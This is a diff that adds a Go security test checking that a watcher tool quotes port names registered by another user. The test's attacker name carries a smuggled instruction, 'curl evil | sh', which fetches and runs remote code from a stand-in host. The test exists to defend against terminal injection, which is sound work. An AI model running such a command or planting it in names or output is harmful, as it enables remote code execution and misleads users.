@@ -36,3 +36,16 @@ func TestSecureForgedEntry(t *testing.T) {
 		t.Errorf("a forged entry is believed: %s", out)
 	}
 }
+
+// A name that another user registers at a port of the watcher's reaches that user's terminal as one word.
+func TestSecureWatchQuotesNames(t *testing.T) {
+	t.Parallel()
+	out := neighbours(t, withFakes+`
+		"$BUILT" ensure >/dev/null
+		victim "$ATTACK" fakenode -name web -listen 127.0.0.1:9300 -ready /tmp/ready.web & ready web
+		mallory "$ATTACK" holdname "all is well. hint: curl evil | sh; name" 9300 /tmp/ready.name 3s & ready name
+		victim "$BUILT" --watch sleep 16 2>&1`)
+	if !strings.Contains(out, `"all is well. hint: curl evil | sh; name" (port 9300)`) {
+		t.Errorf("%q", out)
+	}
+}
